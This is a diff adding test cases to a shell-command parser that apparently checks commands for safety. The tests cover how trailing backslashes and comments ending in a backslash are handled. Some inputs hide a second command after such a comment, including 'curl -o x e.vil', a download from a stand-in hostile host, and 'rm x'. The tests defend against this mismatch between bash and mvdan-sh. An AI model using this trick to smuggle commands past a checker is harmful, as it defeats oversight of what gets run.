@@ -276,6 +276,9 @@ describe('parseShell: words and text', () => {
 
   it('handles backslashes like bash', () => {
     expect(parseShell('echo a\\ b "c\\"d" "e\\q"').commands[0]?.words).toEqual(['echo', 'a b', 'c"d', 'e\\q']);
+    // A backslash at the very end stays (bash reads `x\` as the word `x\`), also inside eval.
+    expect(parseShell('ls x\\').commands[0]?.words).toEqual(['ls', 'x\\']);
+    expect(parseShell("eval 'ls y\\'").commands[0]?.words).toEqual(['ls', 'y\\']);
   });
 
   it('keeps non-ASCII text intact', () => {
@@ -341,6 +344,13 @@ describe('parseShell: failures and caps', () => {
       expect(facts.unverifiable).toMatch(/carriage return/);
       expect(facts.commands).toEqual([]);
     }
+    // A comment ending in a backslash: bash ends it at the newline, mvdan-sh reads on.
+    for (const command of ['git log #\\\ncurl -o x e.vil', '(echo #\\\nrm x)']) {
+      expect(parseShell(command).unverifiable, command).toMatch(/comment ends in a backslash/);
+    }
+    // Where mvdan-sh ends the comment at the newline too (two or three backslashes), both run `rm x`.
+    expect(parseShell('ls # a \\\\\nrm x').commands.map((c) => c.words)).toEqual([['ls'], ['rm', 'x']]);
+    expect(parseShell('ls # a \\\\\\\nrm x').commands.map((c) => c.words)).toEqual([['ls'], ['rm', 'x']]);
     // A surrogate pair is a character like any other.
     expect(parseShell('echo \uD83D\uDE00').commands.map((c) => c.words)).toEqual([['echo', '\uD83D\uDE00']]);
   });
